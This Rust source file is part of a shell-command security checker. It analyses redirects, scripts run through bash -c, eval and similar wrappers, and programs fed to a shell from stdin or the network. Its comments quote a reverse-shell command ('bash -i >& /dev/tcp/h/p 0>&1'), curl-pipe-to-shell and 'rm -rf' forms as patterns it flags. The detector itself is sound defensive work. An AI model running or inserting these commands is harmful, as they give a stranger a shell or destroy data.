//! Scripts inside a command: the target of a redirect (`> F`), a script
//! run by `bash -c`, `eval`, `su -c`, `watch` or `env -S`, a program a
//! shell or an interpreter reads from stdin (`bash < x.sh`, `curl … | sh`),
//! and a script file a shell or `source` runs by path.
//!
//! Takes the command's site and folder; adds findings and re-enters the
//! shell or code lanes with the script found.

use super::ctx::Ctx;
use super::scripts::ScriptKind;
use super::{Run, Site};
use crate::feeds;
use crate::law::Reach;
use crate::limits;
use crate::paths;
use crate::rule_id::Rule;
use crate::rules::FloorRule;
use crate::shell::{self, Word};
use crate::verdict::{Effect, Verdict};
use std::path::PathBuf;

impl Run<'_> {
    pub(super) fn redirect_target(
        &mut self,
        target: &Word,
        op: &str,
        cwd: Option<PathBuf>,
        part: &str,
        depth: usize,
    ) {
        if target.substitution && (target.value.starts_with(">(") || target.value.starts_with("<("))
        {
            return;
        }
        if paths::is_sink(&target.value) {
            return;
        }
        if target.value.starts_with("/dev/tcp/") || target.value.starts_with("/dev/udp/") {
            self.find(
                Effect::Network.verdict(),
                Rule::WriteNetwork,
                format!("`{op} {}` opens a network connection", target.value),
                Effect::Network.remediation(),
                part,
            );
            return;
        }
        self.note(depth, || {
            format!("write: {} (redirection {op})", target.value)
        });
        self.find(
            Effect::Mutate.verdict(),
            Rule::WriteRedirect,
            format!("`{op} {}` writes a file", limits::clip(&target.value, 120)),
            Effect::Mutate.remediation(),
            part,
        );
        self.write_target(target, cwd, Reach::Path, part, depth);
    }

    /// A script run by `bash -c`, `eval`, `su -c`, `watch`, `env -S`.
    pub(super) fn inner_script(
        &mut self,
        wrapper: &str,
        script: &Word,
        site: &Site,
        depth: usize,
        cwd: Option<PathBuf>,
    ) {
        let part = site.command.text.as_str();
        if !script.dynamic {
            self.note(depth, || {
                format!("script ({wrapper}): {}", limits::clip(&script.value, 120))
            });
            self.script(&script.value, depth + 1, cwd);
            return;
        }
        match feeds::substitution_producer(script) {
            feeds::Producer::Literal(text) => {
                self.note(depth, || {
                    format!("script ({wrapper}) printed by a literal echo/printf: {text}")
                });
                self.script(&text, depth + 1, cwd);
            }
            feeds::Producer::Network(what) => {
                self.note(depth, || format!("script from the network: {what}"));
                self.floor(FloorRule::PipeNetworkShell, part, depth);
            }
            feeds::Producer::Opaque(what) => {
                self.note(depth, || format!("script decoded by {what}"));
                self.floor(FloorRule::PipeOpaqueShell, part, depth);
            }
            _ => {
                self.find(
                    Verdict::Signed,
                    Rule::ParseDynamicScript,
                    format!(
                        "{wrapper} runs `{}`, which is only known when the command runs",
                        limits::clip(&script.source, 80)
                    ),
                    "Write the commands out literally so they can be checked.",
                    part,
                );
                // What can be read of it is still judged (`eval "rm -rf $x"`).
                if !script.substitution {
                    self.script(&script.value, depth + 1, cwd);
                }
            }
        }
    }

    /// A shell or interpreter reading its program from stdin.
    pub(super) fn program_from_stdin(&mut self, who: &str, ctx: &Ctx) {
        let (site, depth, cwd) = (ctx.site, ctx.depth, ctx.cwd.clone());
        let part = site.command.text.as_str();
        // `source /dev/stdin` and `. /dev/stdin` run shell text too.
        let is_shell = crate::rules::is_shell(who) || matches!(who, "source" | ".");
        if is_shell && writes_to_network(site.command) {
            return self.floor(FloorRule::NetRemoteShell, part, depth);
        }
        match feeds::stdin_producer(site.script, site.command) {
            feeds::Producer::Literal(text) if is_shell => {
                self.note(depth, || format!("{who} reads a literal script from stdin"));
                self.script(&text, depth + 1, cwd);
            }
            feeds::Producer::Network(what) => {
                self.note(depth, || {
                    format!("{who} reads its program from the network ({what})")
                });
                self.floor(FloorRule::PipeNetworkShell, part, depth);
            }
            feeds::Producer::Opaque(what) => {
                self.note(depth, || {
                    format!("{who} reads a program produced by {what}")
                });
                self.floor(FloorRule::PipeOpaqueShell, part, depth);
            }
            feeds::Producer::Dynamic => {
                self.find(
                    Verdict::Signed,
                    Rule::ParseDynamicScript,
                    format!("{who} reads a program that is only known when the command runs"),
                    "Write the commands out literally so they can be checked.",
                    part,
                );
            }
            feeds::Producer::Literal(_) | feeds::Producer::File => {
                self.find(
                    Effect::Exec.verdict(),
                    Rule::VerbExec,
                    format!("{who} runs a program from stdin that portcullis does not read"),
                    Effect::Exec.remediation(),
                    part,
                );
            }
        }
    }

    /// A shell or `source` running a script file by path.
    pub(super) fn program_file(&mut self, who: &str, file: &Word, ctx: &Ctx) {
        let (site, depth) = (ctx.site, ctx.depth);
        let part = site.command.text.as_str();
        if writes_to_network(site.command) {
            return self.floor(FloorRule::NetRemoteShell, part, depth);
        }
        if let shell::Stdin::File(from) = &site.command.stdin
            && feeds::is_network_path(&from.value)
        {
            return self.floor(FloorRule::PipeNetworkShell, part, depth);
        }
        if file.value == "-" || feeds::is_stdin_device(&file.value) {
            self.program_from_stdin(who, ctx);
            return;
        }
        if file.substitution {
            match feeds::substitution_producer(file) {
                feeds::Producer::Network(_) => {
                    return self.floor(FloorRule::PipeNetworkShell, part, depth);
                }
                feeds::Producer::Opaque(_) => {
                    return self.floor(FloorRule::PipeOpaqueShell, part, depth);
                }
                _ => {}
            }
        }
        self.script_file(who, ScriptKind::Shell, file, ctx);
    }
}

/// `bash -i >& /dev/tcp/h/p 0>&1`: a shell whose output goes to a network
/// connection (and, with `0>&1`, whose input comes from it): a shell for
/// whoever is at the other end.
fn writes_to_network(command: &shell::SimpleCommand) -> bool {
    command
        .redirects
        .iter()
        .any(|r| feeds::is_network_path(&r.target.value))
}
